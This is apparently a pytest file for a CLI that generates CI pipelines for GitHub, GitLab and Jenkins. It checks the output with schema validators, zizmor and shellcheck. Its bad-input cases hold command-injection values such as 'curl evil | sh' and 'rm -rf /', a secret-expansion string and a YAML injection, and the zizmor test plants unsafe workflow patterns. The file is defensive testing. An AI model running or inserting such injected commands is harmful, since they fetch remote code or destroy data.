"""`platformctl pipeline new`: what it writes, judged by published schemas and by zizmor, and what it refuses."""

import re
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
import tree_sitter
import tree_sitter_groovy
import yaml

from platformctl.__main__ import run
from platformctl.pipelines.pins import ACTIONS, IMAGES
from platformctl.pipelines.pipeline import GATE_FILES, SERVICE_FILES, Stage, by_version_only, render
from tests.pipeline_cases import GATE, ROLE, ROOT, SHOP, workflows, write

BIN = Path(sys.executable).parent


def judge(*command: object) -> subprocess.CompletedProcess[str]:
    return subprocess.run([str(part) for part in command], capture_output=True, text=True, check=False, timeout=120)


def check_schema(schema: str, file: Path) -> subprocess.CompletedProcess[str]:
    return judge(BIN / "check-jsonschema", "--builtin-schema", schema, file)


def test_the_gitlab_pipeline_keeps_to_gitlabs_published_schema(tmp_path: Path) -> None:
    (file,) = write(render(SHOP, "gitlab"), tmp_path)
    answer = check_schema("vendor.gitlab-ci", file)
    assert answer.returncode == 0, answer.stdout
    file.write_text(file.read_text().replace("when: manual", "when: by-hand"))
    assert check_schema("vendor.gitlab-ci", file).returncode == 1


def test_workflows_keep_to_githubs_published_schema(tmp_path: Path) -> None:
    for file in workflows(tmp_path):
        answer = check_schema("vendor.github-workflows", file)
        assert answer.returncode == 0, answer.stdout


def test_zizmor_finds_nothing_in_workflows_and_finds_what_is_planted(tmp_path: Path) -> None:
    files = workflows(tmp_path)
    answer = judge(BIN / "zizmor", "--offline", "--no-progress", "--quiet", *files)
    assert answer.returncode == 0, answer.stdout
    text = files[0].read_text()
    planted = {
        "a tag in place of a commit": re.sub(r"actions/checkout@\S+", "actions/checkout@v7", text),
        "an expression inside a script": text.replace("- run: make test", '- run: echo "${{ github.event.pull_request.title }}"'),
        "a token that stays in the checkout": text.replace("        with:\n          persist-credentials: false\n", ""),
        "strangers' code with our token": text.replace("  pull_request:", "  pull_request_target:"),
    }
    for flaw, flawed in planted.items():
        assert flawed != text, flaw
        files[0].write_text(flawed)
        assert judge(BIN / "zizmor", "--offline", "--no-progress", "--quiet", files[0]).returncode > 10, flaw


@pytest.mark.parametrize("text", [*render(SHOP, "github").values(), *render(GATE, "github").values()])
def test_every_action_is_pinned_to_a_commit_we_know(text: str) -> None:
    used = re.findall(r"uses: (\S+)@([0-9a-f]{40}) # (v\S+)", text)
    assert len(used) == text.count("uses:") > 0
    assert all((ACTIONS[name].commit, ACTIONS[name].version) == (commit, version) for name, commit, version in used)


def test_every_pin_is_used_and_is_a_commit() -> None:
    everything = "".join(text for pipeline in (SHOP, GATE) for text in render(pipeline, "github").values())
    assert {name for name in ACTIONS if f"{name}@" in everything} == set(ACTIONS)
    assert all(re.fullmatch(r"[0-9a-f]{40}", action.commit) for action in ACTIONS.values())


def test_environments_are_delivered_to_one_after_the_other() -> None:
    three = replace(SHOP, stages=[*SHOP.stages, Stage("dr", f"{ROLE}/dr")])
    jobs = yaml.safe_load(next(iter(render(three, "github").values())))["jobs"]
    assert jobs["image"]["needs"] == ["test", "gate"]
    assert jobs["deploy-staging"]["needs"] == ["image"]
    assert jobs["deploy-production"]["needs"] == ["image", "deploy-staging"]
    assert jobs["deploy-dr"]["needs"] == ["image", "deploy-production"]
    assert [jobs[f"deploy-{name}"]["environment"] for name in ("staging", "production", "dr")] == ["staging", "production", "dr"]
    lab = yaml.safe_load(next(iter(render(three, "gitlab").values())))
    assert lab["deploy-dr"]["needs"] == ["build", "sign", "deploy-production"]
    assert lab["deploy-dr"]["variables"]["AWS_ROLE_ARN"] == f"{ROLE}/dr"
    stages = re.findall(r"stage\('(.*)'\)", render(three, "jenkins")["Jenkinsfile"])
    assert stages[-3:] == ["Deploy to staging", "Deploy to production", "Deploy to dr"]


def test_a_run_for_a_pull_request_gets_no_credentials() -> None:
    jobs = yaml.safe_load(next(iter(render(SHOP, "github").values())))["jobs"]
    with_identity = {name for name, job in jobs.items() if "id-token" in job["permissions"]}
    assert with_identity == {"image", "deploy-staging", "deploy-production"}
    assert jobs["image"]["if"] == "github.event_name == 'push'"
    assert all("image" in jobs[name]["needs"] for name in with_identity - {"image"})
    lab = yaml.safe_load(next(iter(render(SHOP, "gitlab").values())))
    with_role = [job for job in lab.values() if isinstance(job, dict) and job.get("extends") == ".aws"]
    assert len(with_role) == 4
    assert all(job["rules"][0]["if"] == '$CI_COMMIT_BRANCH == "main"' for job in with_role)


@pytest.mark.parametrize("kind", SERVICE_FILES)
def test_the_same_declaration_gives_the_same_bytes_and_leaves_nothing_open(kind: str) -> None:
    files = render(SHOP, kind)
    assert files == render(SHOP, kind)
    assert not re.search(r"@\{|\}@\s*$|<%|%>", "".join(files.values()), re.MULTILINE)


def test_a_mirror_stands_before_every_image() -> None:
    text = render(SHOP, "gitlab", mirror="registry.example/cache")[".gitlab-ci.yml"]
    images = re.findall(r"(?:image|name): (\S+:v?\d\S*)", text)
    assert len(images) == 9
    assert all(image.startswith("registry.example/cache/") for image in images)


def test_images_are_pulled_by_digest_where_it_is_known() -> None:
    known = {name: f"sha256:{number:064x}" for number, name in enumerate(IMAGES)}
    for kind in ("gitlab", "jenkins"):
        files = render(replace(SHOP, digests=known), kind, mirror="registry.example/cache")
        text = "".join(files.values())
        images = re.findall(r"registry\.example/cache/\S+", text)
        assert len(images) >= 8
        assert all(re.fullmatch(r"\S+:v?\d[^@]*@sha256:[0-9a-f]{64}", image) for image in images)
        assert by_version_only(replace(SHOP, digests=known), files) == []
        assert by_version_only(SHOP, files) == [name for name in IMAGES if name in known]
    assert by_version_only(SHOP, render(SHOP, "github")) == []


@pytest.mark.parametrize("kind", SERVICE_FILES)
def test_the_digest_is_signed_with_the_registrys_key_and_by_no_public_service(kind: str) -> None:
    (text,) = render(replace(SHOP, signing_key="awskms:///alias/images-signing"), kind).values()
    lines = [line for line in text.splitlines() if re.search(r"cosign (sign|attest|verify) ", line)]
    assert [re.findall(r"cosign (\w+)", line)[0] for line in lines] == ["sign", "attest", "verify"]
    assert all(re.search(r'--key "\$(KEY|SIGNING_KEY)".* "\$IMAGE@\$DIGEST"', line) for line in lines)
    assert all("--tlog-upload=false" in line and "--use-signing-config=false" in line for line in lines[:2])
    assert re.search(r"(KEY: |SIGNING_KEY = ')awskms:///alias/images-signing", text)
    # Nothing is signed that was not scanned.
    assert text.index("fail-on high" if kind != "github" else "severity-cutoff: high") < text.index("cosign sign")


SECTIONS = {
    "pipeline": {"agent", "options", "environment", "stages", "post", "parameters", "triggers", "tools", "libraries"},
    "stages": {"stage"},
    "stage": {"agent", "environment", "input", "options", "post", "stages", "steps", "tools", "when", "parallel", "matrix"},
    "post": {"always", "changed", "fixed", "regression", "aborted", "failure", "success", "unstable", "unsuccessful", "cleanup"},
}
"""What a declarative pipeline may hold in which section (https://www.jenkins.io/doc/book/pipeline/syntax/)."""


def jenkins_tree(text: str) -> Any:
    return tree_sitter.Parser(tree_sitter.Language(tree_sitter_groovy.language())).parse(text.encode()).root_node


def calls(node: Any, path: tuple[str, ...] = ()) -> Iterator[tuple[tuple[str, ...], Any]]:
    """Every call of a Groovy program, by the names of the blocks around it."""
    for child in node.children:
        called = child.type in {"method_invocation", "juxt_function_call"}
        named = child.child_by_field_name("name") if called else None
        inner = (*path, named.text.decode()) if named is not None else path
        if named is not None:
            yield inner, child
        yield from calls(child, inner)


def jenkins_problems(text: str) -> list[str]:
    """What is wrong with a Jenkinsfile: as Groovy, and as a declarative pipeline."""
    tree = jenkins_tree(text)
    found = ["is not Groovy"] if tree.has_error else []
    paths = [path for path, _ in calls(tree)]
    found += [f"{path[-2]} holds {path[-1]}" for path in paths if len(path) > 1 and path[-1] not in SECTIONS.get(path[-2], {path[-1]})]
    stages = [path for path in paths if path == ("pipeline", "stages", "stage")]
    steps = [path for path in paths if path == ("pipeline", "stages", "stage", "steps")]
    return found + ([] if len(stages) == len(steps) > 0 else [f"{len(stages)} stages, {len(steps)} of them with steps"])


def test_the_jenkinsfile_is_groovy_and_a_declarative_pipeline() -> None:
    (text,) = render(SHOP, "jenkins").values()
    assert jenkins_problems(text) == []
    planted = {
        "a block that does not end": text.replace("    }\n  }\n}", "    }\n  }"),
        "a string that does not end": text.replace("agent none", "agent 'none"),
        "a section of no pipeline": text.replace("  environment {", "  environments {", 1),
        "a stage without steps": text.replace("      steps {\n", "      step {\n", 1),
    }
    for flaw, flawed in planted.items():
        assert flawed != text, flaw
        assert jenkins_problems(flawed), flaw
    pods = [yaml.safe_load(pod) for pod in re.findall(r"yaml '''\n(.*?)'''", text, re.DOTALL)]
    assert len(pods) == 4
    assert all(pod["spec"]["securityContext"]["runAsNonRoot"] and len(pod["spec"]["containers"]) > 0 for pod in pods)


def scripts(kind: str) -> Iterator[str]:
    """Every piece of shell in a pipeline."""
    (text,) = render(SHOP, kind).values()
    if kind == "gitlab":
        for job in yaml.safe_load(text).values():
            for part in ("before_script", "script", "after_script"):
                if isinstance(job, dict) and part in job:
                    yield "\n".join(job[part])
        return
    for path, call in calls(jenkins_tree(text)):
        if path[-1] == "sh":
            literal = re.search(r"(?s)('''|\"\"\"|'|\")(.*)\1", call.text.decode())
            assert literal
            # Single quotes keep a backslash for the shell only where it is doubled.
            yield literal[2].replace("\\\\", "\\")


@pytest.mark.parametrize(("kind", "least"), [("gitlab", 11), ("jenkins", 12)])
def test_shellcheck_finds_nothing_in_scripts_and_finds_what_is_planted(kind: str, least: int) -> None:
    def verdict(text: str) -> subprocess.CompletedProcess[str]:
        command = [str(BIN / "shellcheck"), "--shell=sh", "--severity=info", "--exclude=SC2030,SC2031", "-"]  # the subshells are ours
        return subprocess.run(command, input=text, capture_output=True, text=True, check=False, timeout=60)

    found = list(scripts(kind))
    assert len(found) >= least
    # Runners of both stop a script at its first failure.
    together = "set -e\n" + "\n".join(f"(\n{script}\n)" for script in found)
    answer = verdict(together)
    assert answer.returncode == 0, answer.stdout
    unquoted = together.replace('up --stack "$STACK"', "up --stack $STACK")
    assert unquoted != together
    assert "SC2086" in verdict(unquoted).stdout


def test_the_gate_of_this_repository_is_the_one_that_is_written() -> None:
    ((path, text),) = render(GATE, "github").items()
    assert (ROOT / path).read_text() == text, "write it again: platformctl pipeline new --gate --force"


ARGUMENTS = [
    *("--registry", SHOP.registry, "--build-role", SHOP.build_role, "--signing-key", SHOP.signing_key),
    *("--environment", f"staging={ROLE}/a", "--environment", f"production={ROLE}/b"),
]


def test_files_are_written_and_not_overwritten_unasked(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    command = ["pipeline", "new", "shop", *ARGUMENTS, "--out", str(tmp_path)]
    assert run(command) == 0
    file = tmp_path / ".github" / "workflows" / "shop.yaml"
    assert capsys.readouterr().out.splitlines() == [str(file)]
    assert run([*command, "--for", "gitlab"]) == 0
    assert "by version, not by digest: buildkit, cosign, grype, pulumi, python, syft" in capsys.readouterr().err
    file.write_text("mine")
    assert run(command) == 2
    assert f"{file}  is there already" in capsys.readouterr().err
    assert file.read_text() == "mine"
    assert run([*command, "--force"]) == 0
    assert "platformctl check" in file.read_text()


@pytest.mark.parametrize(
    ("arguments", "messages"),
    [
        (["Shop!", *ARGUMENTS], ["service 'Shop!'"]),
        (["shop"], ["--registry ''", "--build-role ''", "--signing-key ''", "at least one environment"]),
        (["shop", *ARGUMENTS, "--environment", f"staging={ROLE}/c"], ["staging is named twice"]),
        (["shop", *ARGUMENTS, "--environment", "qa=nobody"], ["--environment qa: 'nobody' is not the ARN of a role"]),
        (["shop", *ARGUMENTS, "--test", "make test; curl evil | sh"], ["--test"]),
        (["shop", *ARGUMENTS, "--test", "echo ${{ secrets.X }}"], ["--test"]),
        (["shop", *ARGUMENTS, "--program", "../other"], ["--program"]),
        (["shop", *ARGUMENTS, "--branch", "main\nsteps:"], ["--branch"]),
        (["shop", *ARGUMENTS, "--runner", "a, b]"], ["--runner"]),
        (["shop", *ARGUMENTS, "--package", "x; rm -rf /"], ["--package"]),
        (["shop", *ARGUMENTS, "--digest", "cosine=sha256:1"], ["--digest cosine: there is no such image"]),
        (["shop", *ARGUMENTS, "--digest", "cosign=latest"], ["--digest cosign=latest: write NAME=sha256:"]),
        (["shop", *ARGUMENTS, "--digest", "cosign"], ["--digest cosign=: write NAME=sha256:"]),
        (["shop", *ARGUMENTS, "--for", "travis"], ["--for 'travis': choose from github, gitlab, jenkins"]),
        (["shop", "--gate"], ["give a service or --gate, not both"]),
        (["--gate", "--for", "gitlab"], ["choose from github"]),
    ],
)
def test_bad_input(tmp_path: Path, capsys: pytest.CaptureFixture[str], arguments: list[str], messages: list[str]) -> None:
    out = ROOT if "--gate" in arguments else tmp_path
    assert run(["pipeline", "new", *arguments, "--out", str(out)]) == 2
    said = capsys.readouterr().err
    assert all(message in said for message in messages), said
    assert list(tmp_path.iterdir()) == []


def test_what_is_offered_is_what_there_are_templates_for() -> None:
    assert set(SERVICE_FILES) == {"github", "gitlab", "jenkins"}
    assert set(GATE_FILES) == {"github"}
